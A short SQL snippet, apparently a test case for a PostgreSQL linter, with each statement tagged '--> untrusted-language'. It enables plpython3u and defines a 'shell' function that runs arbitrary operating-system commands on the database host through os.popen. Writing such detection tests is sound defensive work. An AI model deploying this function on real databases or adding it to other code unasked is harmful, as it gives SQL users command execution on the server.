CREATE EXTENSION plpython3u;
--> untrusted-language
CREATE FUNCTION shell(command text) RETURNS text LANGUAGE plpython3u AS $$
import os
return os.popen(command).read()
$$;
--> untrusted-language
